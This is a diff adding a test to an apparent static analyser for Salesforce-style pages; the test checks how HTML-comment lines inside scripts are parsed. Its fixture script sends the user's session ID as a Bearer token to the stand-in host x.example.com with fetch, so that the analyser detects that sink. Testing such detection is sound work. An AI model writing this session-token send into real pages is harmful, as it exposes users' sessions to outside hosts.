@@ -121,6 +121,18 @@ def test_letterhead_cdata_body_and_end_br_in_an_email_template_parse_as_browsers
     assert link.in_query and (link.span.start_line, link.span.start_col) == (2, 50)
 
 
+def test_a_line_opening_with_an_html_comment_in_a_script_is_a_comment_after_an_unended_statement() -> None:
+    """ECMAScript Annex B: `<!--` and `-->` at a line's start comment out the line in a classic
+    script, and the line break ends the statement before it."""
+    ir = lower(page('<script>\n  document.addEventListener("load", function(){ go("a") })\n'
+                    '<!--document.addEventListener("load", function(){ go("b") })-->\n'
+                    "  var sid = '{!$Api.Session_ID}';\n"
+                    "  fetch('https://x.example.com/sync', {headers: {'Authorization': 'Bearer ' + sid}});\n"
+                    '</script>'))
+    assert not ir.notifications
+    assert sink(ir, "fetch").url.startswith("https://x.example.com/sync")
+
+
 def test_static_html_does_not_evaluate_merge_fields() -> None:
     ir = lower('<a href="https://x.example.com/?s={!$Api.Session_ID}">x</a>', FileKind.STATIC_RESOURCE)
     assert ir.sources == () and ir.url_uses == () and ir.pages == ()
